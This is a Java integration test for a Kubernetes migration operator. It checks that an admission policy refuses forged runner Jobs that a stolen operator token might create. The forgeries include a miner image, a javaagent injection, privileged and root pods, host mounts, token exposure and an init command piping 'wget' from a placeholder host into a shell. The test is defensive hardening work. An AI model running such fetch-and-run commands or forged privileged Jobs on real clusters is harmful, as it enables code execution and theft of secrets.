package io.migrationgate.localcluster;

import static io.migrationgate.localcluster.PolicyPlane.as;
import static io.migrationgate.localcluster.PolicyPlane.refused;
import static io.migrationgate.localcluster.PolicyPlane.require;
import static org.assertj.core.api.Assertions.assertThat;

import io.fabric8.kubernetes.api.model.Container;
import io.fabric8.kubernetes.api.model.ContainerBuilder;
import io.fabric8.kubernetes.api.model.EnvVarBuilder;
import io.fabric8.kubernetes.api.model.PodSpec;
import io.fabric8.kubernetes.api.model.VolumeBuilder;
import io.fabric8.kubernetes.api.model.batch.v1.Job;
import io.fabric8.kubernetes.client.utils.Serialization;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * The operator may create Jobs wherever it watches, so a stolen operator token
 * could run any workload with any Secret. The chart's runner-Job policy lets the operator's
 * ServiceAccount create only Jobs shaped as JobFactory builds them. Each forgery here changes one
 * thing of a runner Job; HelmInstallIT shows the real operator's Jobs pass.
 */
class OperatorJobForgeryIT {

  static final String NS = "shop";
  static final String DIGEST = "sha256:" + "0123456789abcdef".repeat(4);
  static final String RUNNER_IMAGE = "registry.example/migration-gate@" + DIGEST;
  static PolicyPlane policies;

  @BeforeAll
  static void theOperatorMayCreateJobs() throws Exception {
    policies = PolicyPlane.start(Map.of(NS, "dev"), "runner.image=" + RUNNER_IMAGE);
    policies.grant(NS, PolicyPlane.OPERATOR, "batch", List.of("jobs"), List.of("create"));
    PolicyPlane.awaitPolicy(() -> createAsOperator(forged(j -> runner(j).setImage("busybox"))),
        "runs one container, runner");
  }

  @AfterAll
  static void stop() {
    if (policies != null) {
      policies.close();
    }
  }

  /** A Job as JobFactory builds it for a ConfigMap source (see JobFactory.build). */
  static Job runnerJob() {
    return Serialization.unmarshal("""
        apiVersion: batch/v1
        kind: Job
        metadata:
          name: orders-add-status-run
          namespace: %s
          labels: {app.kubernetes.io/managed-by: migration-gate, app.kubernetes.io/component: runner}
          ownerReferences:
          - {apiVersion: migrationgate.io/v1alpha1, kind: MigrationRequest, name: orders-add-status,
             uid: 6a1c2f00-0000-4000-8000-000000000001, controller: true, blockOwnerDeletion: true}
          finalizers: [migrationgate.io/job-outcome]
        spec:
          backoffLimit: 0
          activeDeadlineSeconds: 300
          template:
            metadata:
              labels: {app.kubernetes.io/managed-by: migration-gate, app.kubernetes.io/component: runner}
            spec:
              restartPolicy: Never
              automountServiceAccountToken: false
              enableServiceLinks: false
              securityContext:
                runAsNonRoot: true
                runAsUser: 65532
                runAsGroup: 65532
                seccompProfile: {type: RuntimeDefault}
              volumes:
              - {name: scripts, configMap: {name: orders-add-status-snapshot, defaultMode: 292}}
              - {name: tmp, emptyDir: {sizeLimit: 256Mi}}
              containers:
              - name: runner
                image: %s
                imagePullPolicy: IfNotPresent
                command: [java, "-XX:SharedArchiveFile=/app/migration-gate.jsa", "-XX:TieredStopAtLevel=1", "-XX:+UseSerialGC",
                          "-XX:-UsePerfData", "-XX:+ExitOnOutOfMemoryError", "-Djava.io.tmpdir=/tmp", "-jar", /app/migration-gate.jar, run]
                args: ["--scripts=/workspace/scripts", "--url=jdbc:postgresql://orders-db:5432/orders", "--target=latest",
                       "--report-file=/dev/termination-log"]
                env:
                - {name: MG_DB_USERNAME, valueFrom: {secretKeyRef: {name: orders-db, key: username, optional: false}}}
                - {name: MG_DB_PASSWORD, valueFrom: {secretKeyRef: {name: orders-db, key: password, optional: false}}}
                resources: {requests: {cpu: 100m, memory: 256Mi}, limits: {memory: 512Mi}}
                securityContext:
                  allowPrivilegeEscalation: false
                  readOnlyRootFilesystem: true
                  runAsNonRoot: true
                  capabilities: {drop: [ALL]}
                  seccompProfile: {type: RuntimeDefault}
                volumeMounts:
                - {name: scripts, mountPath: /workspace/scripts, readOnly: true}
                - {name: tmp, mountPath: /tmp, readOnly: false}
                terminationMessagePolicy: FallbackToLogsOnError
        """.formatted(NS, RUNNER_IMAGE), Job.class);
  }

  /** As JobFactory builds it for an image source: the user's digest-pinned image copies the scripts in. */
  static Job imageSourceJob() {
    return forged(job -> {
      PodSpec pod = job.getSpec().getTemplate().getSpec();
      pod.getVolumes().set(0, new VolumeBuilder().withName("scripts").withNewEmptyDir().endEmptyDir().build());
      Container copy = Serialization.unmarshal("""
          name: copy-scripts
          image: registry.example/orders-migrations@%s
          imagePullPolicy: IfNotPresent
          command: [cp, -R, /migrations/., /workspace/scripts/]
          resources: {requests: {cpu: 10m, memory: 16Mi}, limits: {memory: 64Mi}}
          securityContext:
            allowPrivilegeEscalation: false
            readOnlyRootFilesystem: true
            runAsNonRoot: true
            capabilities: {drop: [ALL]}
            seccompProfile: {type: RuntimeDefault}
          volumeMounts: [{name: scripts, mountPath: /workspace/scripts, readOnly: false}]
          terminationMessagePolicy: FallbackToLogsOnError
          """.formatted(DIGEST), Container.class);
      pod.setInitContainers(new ArrayList<>(List.of(copy)));
    });
  }

  static Job forged(Consumer<Job> change) {
    Job job = runnerJob();
    change.accept(job);
    return job;
  }

  static Container runner(Job job) {
    return job.getSpec().getTemplate().getSpec().getContainers().get(0);
  }

  static PodSpec pod(Job job) {
    return job.getSpec().getTemplate().getSpec();
  }

  static Kubectl.Result createAsOperator(Job job) {
    return policies.admin.runWithInput(Serialization.asYaml(job),
        as(PolicyPlane.OPERATOR, List.of(), "create", "--dry-run=server", "-f", "-"));
  }

  @Test
  void jobsShapedAsJobFactoryBuildsThemAreCreated() {
    require(createAsOperator(runnerJob()));
    require(createAsOperator(imageSourceJob()));
    // the read-only plan Job runs the runner's other program
    require(createAsOperator(forged(job -> {
      List<String> command = new ArrayList<>(runner(job).getCommand());
      command.set(command.size() - 1, "plan");
      runner(job).setCommand(command);
    })));
  }

  @Test
  void aStolenOperatorTokenCannotCreateAnyOtherJob() {
    String shape = "runs one container, runner, with the image " + RUNNER_IMAGE;
    String privileges = "allowPrivilegeEscalation: false, drops ALL capabilities";
    String mounts = "automountServiceAccountToken: false";
    Map<String, Job> forgeries = new LinkedHashMap<>();
    Map<String, String> expected = new LinkedHashMap<>();
    forgeries.put("another image", forged(j -> runner(j).setImage("registry.example/miner:latest")));
    expected.put("another image", shape);
    forgeries.put("a second container", forged(j -> pod(j).getContainers().add(
        new ContainerBuilder(runner(j)).withName("sidecar").build())));
    expected.put("a second container", shape);
    forgeries.put("another command", forged(j -> runner(j).setCommand(List.of("java", "/workspace/scripts/Evil.java"))));
    expected.put("another command", shape);
    forgeries.put("JAVA_TOOL_OPTIONS", forged(j -> runner(j).getEnv().add(new EnvVarBuilder()
        .withName("JAVA_TOOL_OPTIONS").withValue("-javaagent:/workspace/scripts/agent.jar").build())));
    expected.put("JAVA_TOOL_OPTIONS", "only MG_* environment variables");
    forgeries.put("privileged", forged(j -> {
      // the API server itself refuses privileged with allowPrivilegeEscalation: false
      runner(j).getSecurityContext().setPrivileged(true);
      runner(j).getSecurityContext().setAllowPrivilegeEscalation(null);
    }));
    expected.put("privileged", privileges);
    forgeries.put("privilege escalation", forged(j -> runner(j).getSecurityContext().setAllowPrivilegeEscalation(true)));
    expected.put("privilege escalation", privileges);
    forgeries.put("capabilities kept", forged(j -> runner(j).getSecurityContext().getCapabilities().setDrop(List.of())));
    expected.put("capabilities kept", privileges);
    forgeries.put("a capability added", forged(j -> runner(j).getSecurityContext().getCapabilities()
        .setAdd(List.of("NET_RAW"))));
    expected.put("a capability added", privileges);
    forgeries.put("root", forged(j -> {
      pod(j).getSecurityContext().setRunAsNonRoot(false);
      runner(j).getSecurityContext().setRunAsNonRoot(null);
    }));
    expected.put("root", "runs as non-root with the RuntimeDefault seccomp profile");
    forgeries.put("unconfined seccomp", forged(j -> {
      pod(j).getSecurityContext().getSeccompProfile().setType("Unconfined");
      runner(j).getSecurityContext().setSeccompProfile(null);
    }));
    expected.put("unconfined seccomp", "RuntimeDefault seccomp profile");
    forgeries.put("hostPath", forged(j -> pod(j).getVolumes().add(new VolumeBuilder().withName("host")
        .withNewHostPath().withPath("/").endHostPath().build())));
    expected.put("hostPath", "no hostPath");
    forgeries.put("token mounted", forged(j -> pod(j).setAutomountServiceAccountToken(true)));
    expected.put("token mounted", mounts);
    forgeries.put("token projected", forged(j -> pod(j).getVolumes().add(new VolumeBuilder().withName("token")
        .withNewProjected().addNewSource().withNewServiceAccountToken().withPath("token").endServiceAccountToken()
        .endSource().endProjected().build())));
    expected.put("token projected", mounts);
    forgeries.put("Secret volume", forged(j -> pod(j).getVolumes().add(new VolumeBuilder().withName("keys")
        .withNewSecret().withSecretName("payments-db").endSecret().build())));
    expected.put("Secret volume", "only configMap and emptyDir volumes");
    forgeries.put("host network", forged(j -> pod(j).setHostNetwork(true)));
    expected.put("host network", "no host network, PID or IPC");
    forgeries.put("host PID", forged(j -> pod(j).setHostPID(true)));
    expected.put("host PID", "no host network, PID or IPC");
    forgeries.put("no owner", forged(j -> j.getMetadata().setOwnerReferences(List.of())));
    expected.put("no owner", "MigrationRequest as its controller ownerReference");
    forgeries.put("owned, not controlled", forged(j -> j.getMetadata().getOwnerReferences().get(0).setController(false)));
    expected.put("owned, not controlled", "MigrationRequest as its controller ownerReference");
    forgeries.put("another owner kind", forged(j -> j.getMetadata().getOwnerReferences().get(0).setKind("CronJob")));
    expected.put("another owner kind", "MigrationRequest as its controller ownerReference");
    Job image = imageSourceJob();
    forgeries.put("init image by tag", forged(j -> {
      pod(j).setInitContainers(new ArrayList<>(pod(image).getInitContainers()));
      pod(j).getVolumes().set(0, pod(image).getVolumes().get(0));
      pod(j).getInitContainers().get(0).setImage("registry.example/orders-migrations:latest");
    }));
    expected.put("init image by tag", "at most one init container, copy-scripts: an image pinned by digest");
    forgeries.put("init with credentials", forged(j -> {
      pod(j).setInitContainers(new ArrayList<>(pod(image).getInitContainers()));
      pod(j).getVolumes().set(0, pod(image).getVolumes().get(0));
      pod(j).getInitContainers().get(0).setEnv(new ArrayList<>(runner(j).getEnv()));
    }));
    expected.put("init with credentials", "with no environment");
    forgeries.put("init running a shell", forged(j -> {
      pod(j).setInitContainers(new ArrayList<>(pod(image).getInitContainers()));
      pod(j).getVolumes().set(0, pod(image).getVolumes().get(0));
      pod(j).getInitContainers().get(0).setCommand(List.of("sh", "-c", "wget -qO- http://example.invalid/x | sh"));
    }));
    expected.put("init running a shell", "running cp");

    List<String> accepted = new ArrayList<>();
    forgeries.forEach((name, job) -> {
      Kubectl.Result result = createAsOperator(job);
      if (result.ok()) {
        accepted.add(name);
      } else {
        assertThat(result.err()).as(name).contains(expected.get(name));
      }
    });
    assertThat(accepted).as("forged Jobs the operator's ServiceAccount could create").isEmpty();
  }

  @Test
  void otherSubjectsAreNotRestrictedByThisPolicy() {
    require(policies.admin.runWithInput(Serialization.asYaml(forged(j -> runner(j).setImage("busybox"))),
        "create", "--dry-run=server", "-f", "-"));
  }
}
